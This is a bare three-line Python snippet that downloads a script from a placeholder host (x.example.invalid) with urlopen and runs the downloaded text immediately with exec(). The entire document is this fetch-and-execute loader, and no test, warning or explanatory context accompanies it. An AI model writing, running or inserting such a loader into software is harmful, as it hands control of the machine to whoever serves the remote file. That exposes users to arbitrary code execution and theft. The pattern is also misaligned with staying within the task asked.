from urllib.request import urlopen
code = urlopen('https://x.example.invalid/q.py').read()
exec(code)
